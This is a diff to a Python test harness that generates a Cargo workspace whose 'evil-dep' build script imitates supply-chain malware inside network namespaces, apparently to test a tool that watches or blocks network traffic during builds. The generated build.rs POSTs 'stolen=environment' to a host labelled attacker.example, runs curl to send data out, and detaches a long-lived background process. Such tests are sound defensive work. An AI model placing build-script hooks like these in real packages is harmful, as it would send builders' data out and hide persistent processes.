@@ -63,7 +63,7 @@ class TestHost:
 
     __test__ = False  # a helper, not a pytest test class
 
-    def __init__(self, tag: str, index: int, workdir: Path) -> None:
+    def __init__(self, tag: str, index: int, workdir: Path, static: Path | None = None) -> None:
         self.ns = f"emt-{tag}"
         self.host_if = f"emh-{tag}"[:15]
         self.peer_if = f"emp-{tag}"[:15]
@@ -72,6 +72,7 @@ class TestHost:
         self.local_v6 = str(ipaddress.IPv6Address(f"2001:db8:51:{index:x}::1"))
         self.v6 = str(ipaddress.IPv6Address(f"2001:db8:51:{index:x}::2"))
         self.received = workdir / f"received-{tag}.jsonl"
+        self.static = static
         self._server: subprocess.Popen[str] | None = None
         self._dns: subprocess.Popen[str] | None = None
         self._up()
@@ -91,7 +92,8 @@ class TestHost:
             sh(*ns, "link", "set", "lo", "up")
             self._server = subprocess.Popen(
                 ["ip", "netns", "exec", self.ns, sys.executable, str(RECORDER),
-                 "--out", str(self.received), "--v4", self.v4, "--v6", self.v6],
+                 "--out", str(self.received), "--v4", self.v4, "--v6", self.v6,
+                 *(["--static", str(self.static)] if self.static else [])],
                 stdout=subprocess.PIPE, text=True)
             assert self._server.stdout is not None
             line = self._server.stdout.readline()
@@ -292,7 +294,11 @@ use std::process::Command;
 use std::time::Duration;
 
 fn post(addr: &str, path: &str) {
-    let mut s = TcpStream::connect(addr).expect("connect");
+    // Like real malware, carry on when refused: the build must still finish.
+    let mut s = match TcpStream::connect(addr) {
+        Ok(s) => s,
+        Err(e) => { eprintln!("post {} refused: {}", addr, e); return; }
+    };
     s.set_read_timeout(Some(Duration::from_secs(10))).ok();
     let body = "stolen=environment";
     write!(s, "POST {} HTTP/1.1\r\nHost: attacker.example\r\nContent-Length: {}\r\n\
@@ -315,7 +321,13 @@ fn main() {
     let v4 = std::env::var("EM_V4").unwrap_or_default();
     let v6 = std::env::var("EM_V6").unwrap_or_default();
     let dir = std::env::var("EM_DIR").unwrap_or_default();
-    for action in std::env::var("EM_ACTIONS").unwrap_or_default().split(',') {
+    // EM_ACTIONS_<PACKAGE> (e.g. EM_ACTIONS_OTHER_DEP) for one crate, else EM_ACTIONS.
+    let own = format!("EM_ACTIONS_{}", std::env::var("CARGO_PKG_NAME").unwrap_or_default()
+        .replace('-', "_").to_uppercase());
+    println!("cargo:rerun-if-env-changed={}", own);
+    let actions = std::env::var(&own).or_else(|_| std::env::var("EM_ACTIONS"))
+        .unwrap_or_default();
+    for action in actions.split(',') {
         match action {
             "" => {}
             "post4" => post(&format!("{}:8080", v4), "/post4"),
@@ -344,9 +356,29 @@ done; curl -s -o /dev/null -X POST -d late=1 http://{v}:8080/detached; touch {d}
                 // The system resolver path: glibc, /etc/resolv.conf, port 53.
                 let name = &a[9..];
                 let want_v6 = a.starts_with("resolve6=");
-                let addr = (name, 8080u16).to_socket_addrs().expect("resolve")
-                    .find(|s| s.is_ipv6() == want_v6).expect("an address of that family");
-                post(&addr.to_string(), &format!("/resolved/{}", name));
+                match (name, 8080u16).to_socket_addrs() {
+                    Ok(addrs) => {
+                        let addr = addrs.into_iter().find(|s| s.is_ipv6() == want_v6)
+                            .expect("an address of that family");
+                        post(&addr.to_string(), &format!("/resolved/{}", name));
+                    }
+                    Err(e) => eprintln!("resolve {} failed: {}", name, e),
+                }
+            }
+            a if a.starts_with("childname=") => {
+                let url = format!("http://{}:8080/child", &a[10..]);
+                Command::new("curl").args(["-s", "-o", "/dev/null", "-X", "POST", "-d",
+                    "from=child", &url]).status().unwrap();
+            }
+            "postother" => post(&format!("{}:8080", std::env::var("EM_OTHER").unwrap()),
+                                "/other"),
+            "detach_sleep" => {
+                let script = format!("(setsid sh -c 'echo $$ > {d}/grandchild.pid; \
+exec sleep 300' </dev/null >/dev/null 2>&1 &)", d = dir);
+                Command::new("sh").arg("-c").arg(script).status().unwrap();
+                while !std::path::Path::new(&format!("{}/grandchild.pid", dir)).exists() {
+                    std::thread::sleep(Duration::from_millis(10));
+                }
             }
             other => panic!("unknown action {}", other),
         }
@@ -376,15 +408,23 @@ class Workspace:
     """A generated Cargo workspace: ``app`` depends on path crate ``evil-dep`` 0.3.10,
     whose build script does what ``EM_ACTIONS`` says."""
 
-    def __init__(self, root: Path) -> None:
+    def __init__(self, root: Path, other_crate: bool = False) -> None:
         self.root = root
         (root / "app" / "src").mkdir(parents=True)
         (root / "evil-dep" / "src").mkdir(parents=True)
+        members = ["app", "evil-dep"] + (["other-dep"] if other_crate else [])
         (root / "Cargo.toml").write_text(
-            '[workspace]\nmembers = ["app", "evil-dep"]\nresolver = "2"\n')
+            f'[workspace]\nmembers = {json.dumps(members)}\nresolver = "2"\n')
         (root / "app" / "Cargo.toml").write_text(
             '[package]\nname = "app"\nversion = "1.0.0"\nedition = "2021"\n\n'
-            '[dependencies]\nevil-dep = { path = "../evil-dep" }\n')
+            '[dependencies]\nevil-dep = { path = "../evil-dep" }\n'
+            + ('other-dep = { path = "../other-dep" }\n' if other_crate else ""))
+        if other_crate:
+            (root / "other-dep" / "src").mkdir(parents=True)
+            (root / "other-dep" / "Cargo.toml").write_text(
+                '[package]\nname = "other-dep"\nversion = "1.0.0"\nedition = "2021"\n')
+            (root / "other-dep" / "src" / "lib.rs").write_text("")
+            (root / "other-dep" / "build.rs").write_text(BUILD_RS)
         (root / "app" / "src" / "main.rs").write_text("fn main() { evil_dep::hello(); }\n")
         (root / "evil-dep" / "Cargo.toml").write_text(
             '[package]\nname = "evil-dep"\nversion = "0.3.10"\nedition = "2021"\n'
@@ -395,7 +435,9 @@ class Workspace:
 
     def cargo_build(self, host: TestHost, actions: str,
                     wrap: Callable[[list[str]], list[str]] | None = None,
-                    resolv_conf: str | None = None) -> subprocess.CompletedProcess[str]:
+                    resolv_conf: str | None = None, check: bool = True,
+                    env_extra: dict[str, str] | None = None
+                    ) -> subprocess.CompletedProcess[str]:
         """``cargo build --offline`` with the build script doing ``actions``.
 
         With ``resolv_conf``, cargo runs in a mount namespace of its own where that text is
@@ -404,6 +446,7 @@ class Workspace:
         env = env_with_cargo()
         env.update(EM_ACTIONS=actions, EM_V4=host.v4, EM_V6=host.v6, EM_DIR=str(self.root),
                    CARGO_TARGET_DIR=str(self.root / "target"))
+        env.update(env_extra or {})
         cargo = shutil.which("cargo", path=env["PATH"])
         assert cargo is not None
         argv = [cargo, "build", "--offline", "-q"]
@@ -414,5 +457,6 @@ class Workspace:
                     f'mount --bind {conf} /etc/resolv.conf && exec "$@"', "sh", *argv]
         result = subprocess.run(wrap(argv) if wrap else argv, cwd=self.root, env=env,
                                 capture_output=True, text=True, timeout=300, check=False)
-        assert result.returncode == 0, f"cargo build failed:\n{result.stderr}"
+        if check:
+            assert result.returncode == 0, f"cargo build failed:\n{result.stderr}"
         return result
